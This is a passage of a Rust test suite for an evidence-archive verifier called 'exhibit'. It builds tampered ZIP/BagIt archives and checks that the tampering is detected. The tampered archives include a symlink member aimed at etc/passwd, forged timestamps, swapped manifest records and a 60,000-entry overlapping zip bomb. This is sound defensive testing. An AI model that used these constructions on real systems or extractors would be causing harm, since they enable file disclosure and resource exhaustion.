    assert!(k.contains(&"special_member".to_string()), "{k:?}");
    assert!(k.contains(&"member_attributes".to_string()), "{k:?}");
    let x = t.path().join("x");
    tool(
        "7z",
        &[
            "x",
            "-y",
            &format!("-o{}", x.display()),
            archive.to_str().unwrap(),
        ],
        t.path(),
    );
    let name = String::from_utf8(z.entries[i].name.clone()).unwrap();
    let link = fs::symlink_metadata(x.join(&name)).unwrap();
    assert!(link.file_type().is_symlink(), "7-Zip made a symlink");
    // (7-Zip re-roots an absolute target inside the extraction directory.)
    let target = fs::read_link(x.join(&name)).unwrap();
    assert!(target.ends_with("etc/passwd"), "{}", target.display());
}

#[test]
fn dos_directory_bit_on_a_file_member() {
    let (t, archive, _) = fresh(false);
    let mut z = Zip::read(&archive);
    let i = z.find("customers.csv");
    // Made by FAT with only the DOS directory bit, as Windows tools write
    // a directory: 7-Zip creates one, whatever the name says.
    z.entries[i].made_by &= 0x00ff;
    z.entries[i].external = 0x10;
    z.write(&archive);
    assert_only(
        &archive,
        &[
            "member_attributes",
            "member_metadata_mismatch",
            "special_member",
        ],
    );
    let x = t.path().join("x");
    tool(
        "7z",
        &[
            "x",
            "-y",
            &format!("-o{}", x.display()),
            archive.to_str().unwrap(),
        ],
        t.path(),
    );
    let name = String::from_utf8(z.entries[i].name.clone()).unwrap();
    assert!(x.join(name).is_dir(), "7-Zip made a directory of a file");
}

/// Set the mtime of every extended timestamp (local and central) of member `i`.
fn set_extended_mtime(z: &mut Zip, i: usize, mtime: i32) {
    let e = &mut z.entries[i];
    for area in [&mut e.local_extra, &mut e.central_extra] {
        let mut at = 0;
        while at + 4 <= area.len() {
            let (id, len) = (le16(area, at), le16(area, at + 2) as usize);
            if id == 0x5455 {
                area[at + 5..at + 9].copy_from_slice(&mtime.to_le_bytes());
            }
            at += 4 + len;
        }
    }
}

#[test]
fn forged_extended_timestamp() {
    let (t, archive, _) = fresh(false);
    let mut z = Zip::read(&archive);
    let i = z.find("customers.csv");
    let forged = 1_262_304_000; // 2010-01-01
    set_extended_mtime(&mut z, i, forged);
    z.write(&archive);
    assert_only(&archive, &["timestamp_mismatch"]);
    // Info-ZIP dates the extracted file by the forged field.
    let x = t.path().join("x");
    assert!(unzip_into(&archive, &x).0);
    let name = String::from_utf8(z.entries[i].name.clone()).unwrap();
    let m = fs::metadata(x.join(name)).unwrap();
    use std::os::unix::fs::MetadataExt as _;
    assert_eq!(m.mtime(), forged as i64);
}

#[test]
fn malformed_extended_timestamp() {
    // Flags announce a creation time; the field is 13 bytes long.
    let (_t, archive, _) = fresh(false);
    let mut z = Zip::read(&archive);
    let i = z.find("customers.csv");
    let area = &mut z.entries[i].local_extra;
    assert_eq!(le16(area, 0), 0x5455);
    let len = le16(area, 2) as usize;
    let mut field = area[4..4 + len].to_vec();
    field[0] = 0b111;
    field.resize(13, 0);
    let mut new = extra_field(0x5455, &field);
    new.extend(&area[4 + len..]);
    *area = new;
    z.write(&archive);
    // The local timestamp is not read, so it no longer matches the central one.
    assert_only(&archive, &["extra_field_malformed", "timestamp_mismatch"]);
}

#[test]
fn records_with_member_and_hash_swapped() {
    // The records of customers.csv and access.log trade `member`, `sha256`
    // and `size`: every hash still agrees with the manifest.
    let (t, archive, stem) = fresh(false);
    let mut z = Zip::read(&archive);
    let mut paths = (String::new(), String::new());
    z.edit_records(|recs| {
        let a = recs
            .iter()
            .position(|r| r["path"].as_str().unwrap().ends_with("/customers.csv"))
            .unwrap();
        let b = recs
            .iter()
            .position(|r| r["path"].as_str().unwrap().ends_with("/access.log"))
            .unwrap();
        for field in ["member", "sha256", "size"] {
            let va = recs[a][field].clone();
            recs[a][field] = recs[b][field].clone();
            recs[b][field] = va;
        }
        paths = (
            recs[a]["path"].as_str().unwrap().to_string(),
            recs[a]["sha256"].as_str().unwrap().to_string(),
        );
    });
    z.reseal(&stem);
    z.write(&archive);
    let (code, report) = verify(&archive);
    assert_eq!(code, 1, "{report:#}");
    assert_only(&archive, &["record_member_mismatch"]);
    let named = report["problems"]
        .as_array()
        .unwrap()
        .iter()
        .any(|p| p["path"] == paths.0.as_str());
    assert!(named, "{report:#}");
    // What Info-ZIP extracts at customers.csv is not what its record says.
    let x = t.path().join("x");
    assert!(unzip_into(&archive, &x).0);
    let extracted = fs::read(x.join(&stem).join("data").join(&paths.0[1..])).unwrap();
    assert_ne!(sha256_hex(&extracted), paths.1);
}

#[test]
fn extra_manifest_with_a_wrong_line() {
    let (t, archive, stem) = fresh(false);
    let mut z = Zip::read(&archive);
    let mut md5 = String::new();
    let prefix = format!("{stem}/");
    let mut wrong = String::new();
    for i in 0..z.entries.len() {
        let name = String::from_utf8(z.entries[i].name.clone()).unwrap();
        if let Some(rel) = name
            .strip_prefix(&prefix)
            .filter(|r| r.starts_with("data/"))
        {
            let mut h = hex::encode(md5::Md5::digest(z.content(i)));
            if rel.ends_with("customers.csv") {
                h = "0".repeat(32);
                wrong = name.clone();
            }
            md5.push_str(&format!("{h}  {rel}\n"));
        }
    }
    let mut e = z.entries[z.find("/bagit.txt")].clone();
    e.name = format!("{stem}/manifest-md5.txt").into_bytes();
    e.local_name = e.name.clone();
    z.entries.push(e);
    z.set_text("/manifest-md5.txt", &md5);
    z.reseal(&stem);
    z.write(&archive);
    assert_only(&archive, &["manifest_mismatch"]);
    let (_, report) = verify(&archive);
    assert_eq!(report["problems"][0]["path"], wrong.as_str(), "{report:#}");
    // bagit-python checks every manifest and rejects the bag.
    let x = t.path().join("x");
    assert!(unzip_into(&archive, &x).0);
    let (ok, out) = tool_status(
        "python3",
        &["-m", "bagit", "--validate", x.join(&stem).to_str().unwrap()],
        t.path(),
    );
    assert!(!ok, "bagit must reject the bag: {out}");
}

#[test]
fn extra_manifest_not_in_the_tag_manifest() {
    // A correct manifest-sha1.txt that tagmanifest-sha256.txt does not
    // cover, and a tag manifest of an algorithm Exhibit cannot check.
    let (_t, archive, stem) = fresh(false);
    let mut z = Zip::read(&archive);
    let prefix = format!("{stem}/");
    let mut sha1 = String::new();
    for i in 0..z.entries.len() {
        let name = String::from_utf8(z.entries[i].name.clone()).unwrap();
        if let Some(rel) = name
            .strip_prefix(&prefix)
            .filter(|r| r.starts_with("data/"))
        {
            let h = hex::encode(sha1::Sha1::digest(z.content(i)));
            sha1.push_str(&format!("{h}  {rel}\n"));
        }
    }
    for (file, text) in [
        ("manifest-sha1.txt", sha1.as_str()),
        ("tagmanifest-blake2b.txt", ""),
    ] {
        let mut e = z.entries[z.find("/bagit.txt")].clone();
        e.name = format!("{stem}/{file}").into_bytes();
        e.local_name = e.name.clone();
        z.entries.push(e);
        z.set_text(&format!("/{file}"), text);
    }
    z.write(&archive);
    assert_only(&archive, &["manifest_unsupported", "unlisted_member"]);
}

/// Run `exhibit verify --json` on `path`, killing it after `limit`:
/// (exit code, stdout, elapsed).
fn verify_within(
    path: &Path,
    limit: std::time::Duration,
) -> (Option<i32>, Vec<u8>, std::time::Duration) {
    let started = std::time::Instant::now();
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("exhibit"))
        .args(["verify", "--json", "-q"])
        .arg(path)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = child.stdout.take().unwrap();
    let reader = std::thread::spawn(move || {
        let mut out = Vec::new();
        stdout.read_to_end(&mut out).unwrap();
        out
    });
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            return (status.code(), reader.join().unwrap(), started.elapsed());
        }
        if started.elapsed() > limit {
            child.kill().unwrap();
            child.wait().unwrap();
            panic!("verify {} did not finish within {limit:?}", path.display());
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

#[test]
fn overlapping_members_are_not_inflated() {
    // 60,000 central entries share one deflate stream of 1 GiB of zeros
    // (about 1 MB compressed): 60 TiB for a verifier that inflates each.
    let (t, archive, stem) = fresh(false);
    let mut z = Zip::read(&archive);
    let mut enc = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    let zeros = vec![0u8; 1 << 20];
    let mut crc = crc32fast::Hasher::new();
    for _ in 0..1024 {
        enc.write_all(&zeros).unwrap();
        crc.update(&zeros);
    }
    let mut bomb = z.entries[z.find("customers.csv")].clone();
    bomb.method = 8;
    bomb.data = enc.finish().unwrap();
    bomb.crc = crc.finalize();
    bomb.usize = 1 << 30;
    bomb.name = format!("{stem}/data/bomb/00000").into_bytes();
    bomb.local_name = bomb.name.clone();
    let first = z.entries.len();
    let shared = Entry {
        share: Some(first),
        data: Vec::new(),
        ..bomb.clone()
    };
    z.entries.push(bomb);
    for n in 1..60_000 {
        let mut e = shared.clone();
        e.name = format!("{stem}/data/bomb/{n:05}").into_bytes();
        z.entries.push(e);
    }
    z.write(&archive);
    // Python's zipfile sees 60,000 members of 1 GiB each.
    let total = tool(
        "python3",
        &[
            "-c",
            "import sys,zipfile; print(sum(i.file_size for i in zipfile.ZipFile(sys.argv[1]).infolist()))",
            archive.to_str().unwrap(),
        ],
        t.path(),
    );
    assert!(
        total.trim().parse::<u64>().unwrap() >= 60_000 << 30,
        "{total}"
    );
    let (code, out, took) = verify_within(&archive, std::time::Duration::from_secs(300));
    let report: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(code, Some(1));
    let overlaps = report["problems"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|p| p["kind"] == "member_overlaps")
        .count();
    assert_eq!(overlaps, 59_999, "one per entry after the first");
    eprintln!("verify of the 60,000-entry bomb took {took:?}");
}

#[test]
fn fifo_and_device_are_refused_at_once() {
    let t = tempfile::tempdir().unwrap();
    let fifo = t.path().join("evidence.zip");
    rustix::fs::mkfifoat(rustix::fs::CWD, &fifo, rustix::fs::Mode::from(0o600)).unwrap();
    for path in [fifo.as_path(), Path::new("/dev/zero")] {
        let (code, _, _) = verify_within(path, std::time::Duration::from_secs(20));
        assert_eq!(code, Some(2), "{}", path.display());
        let o = exhibit().arg("verify").arg(path).output().unwrap();
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(err.contains("not a regular file"), "{err}");
    }
}

#[test]
fn custody_log_that_is_a_fifo_is_not_opened() {
    let (_t, archive, _) = fresh(false);
    let log = exhibit::archive::custody_log_path(&archive);
    fs::remove_file(&log).unwrap();
    rustix::fs::mkfifoat(rustix::fs::CWD, &log, rustix::fs::Mode::from(0o600)).unwrap();
    let (code, out, _) = verify_within(&archive, std::time::Duration::from_secs(30));
    assert_eq!(code, Some(1));
    let report: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(
        problem_kinds(&report),
        vec!["custody_unreadable".to_string()]
    );
}
